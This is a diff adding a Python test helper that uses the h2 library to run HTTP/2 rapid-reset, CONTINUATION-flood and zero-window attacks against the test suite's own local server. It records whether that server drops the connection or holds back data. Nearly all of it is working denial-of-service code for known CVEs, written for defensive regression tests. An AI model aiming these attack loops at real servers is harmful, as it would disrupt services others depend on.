@@ -1,0 +1,129 @@
+"""Attacks on an HTTP/2 server over TLS, made with the h2 library, for the HTTP/2 tests.
+
+Usage: h2_attacks.py ATTACK PORT PATH [COUNT]
+  rapid-reset COUNT   open and at once reset COUNT streams (CVE-2023-44487); prints how many were sent before the
+                      server closed the connection (or COUNT), and whether it sent GOAWAY.
+  continuation COUNT  one HEADERS without END_HEADERS, then COUNT small CONTINUATION frames (CVE-2024-27316 family);
+                      prints whether the server closed the connection and after how many.
+  never-read          asks for PATH with a flow-control window of 0 and never opens it; prints how many DATA bytes
+                      arrived in 3 s (the server must stop at the window, holding the rest).
+Prints one JSON object. The certificate is not verified: the tests' own server on 127.0.0.1.
+"""
+import json
+import socket
+import ssl
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.settings
+
+attack, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+count = int(sys.argv[4]) if len(sys.argv) > 4 else 0
+
+context = ssl.create_default_context()
+context.check_hostname = False
+context.verify_mode = ssl.CERT_NONE
+context.set_alpn_protocols(["h2"])
+raw = socket.create_connection(("127.0.0.1", port))
+sock = context.wrap_socket(raw, server_hostname="127.0.0.1")
+assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
+sock.settimeout(5)
+
+settings = {}
+if attack == "never-read":
+    settings[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = 0
+conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+conn.initiate_connection()
+if settings:
+    conn.update_settings(settings)
+sock.sendall(conn.data_to_send())
+headers = [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", "127.0.0.1")]
+
+
+def drain(timeout):
+    """Reads what the server sends for up to `timeout` seconds: (events, closed)."""
+    events = []
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        sock.settimeout(max(0.01, deadline - time.time()))
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            break
+        except (ConnectionResetError, ssl.SSLError, OSError):
+            return events, True
+        if not data:
+            return events, True
+        try:
+            events += conn.receive_data(data)
+        except Exception:
+            return events, True
+        outgoing = conn.data_to_send()
+        if outgoing:
+            try:
+                sock.sendall(outgoing)
+            except OSError:
+                return events, True
+    return events, False
+
+
+result = {"attack": attack}
+if attack == "rapid-reset":
+    sent = 0
+    closed = False
+    goaway = False
+    for index in range(count):
+        stream = conn.get_next_available_stream_id()
+        try:
+            conn.send_headers(stream, headers)
+            conn.reset_stream(stream)
+            sock.sendall(conn.data_to_send())
+        except Exception:
+            closed = True
+            break
+        sent += 1
+        if index % 50 == 49:
+            events, closed = drain(0.05)
+            goaway = goaway or any(isinstance(e, h2.events.ConnectionTerminated) for e in events)
+            if closed or goaway:
+                break
+    if not closed:
+        events, closed = drain(2)
+        goaway = goaway or any(isinstance(e, h2.events.ConnectionTerminated) for e in events)
+    result.update(sent=sent, closed=closed or goaway, goaway=goaway)
+elif attack == "continuation":
+    stream = conn.get_next_available_stream_id()
+    # A HEADERS frame without END_HEADERS, its block started, then CONTINUATION frames of a few bytes each.
+    block = conn.encoder.encode(headers)
+    frame = bytes([0, 0, len(block), 0x1, 0x0]) + stream.to_bytes(4, "big") + block
+    sock.sendall(conn.data_to_send() + frame)
+    sent = 0
+    closed = False
+    piece = conn.encoder.encode([("x-filler", "a" * 8)])
+    for _ in range(count):
+        continuation = bytes([0, 0, len(piece), 0x9, 0x0]) + stream.to_bytes(4, "big") + piece
+        try:
+            sock.sendall(continuation)
+        except OSError:
+            closed = True
+            break
+        sent += 1
+        if sent % 100 == 0:
+            _, closed = drain(0.01)
+            if closed:
+                break
+    if not closed:
+        _, closed = drain(2)
+    result.update(sent=sent, closed=closed)
+elif attack == "never-read":
+    stream = conn.get_next_available_stream_id()
+    conn.send_headers(stream, headers, end_stream=True)
+    sock.sendall(conn.data_to_send())
+    events, closed = drain(3)
+    received = sum(len(e.data) for e in events if isinstance(e, h2.events.DataReceived))
+    status = [dict(e.headers).get(":status") for e in events if isinstance(e, h2.events.ResponseReceived)]
+    result.update(received=received, status=status, closed=closed)
+print(json.dumps(result))
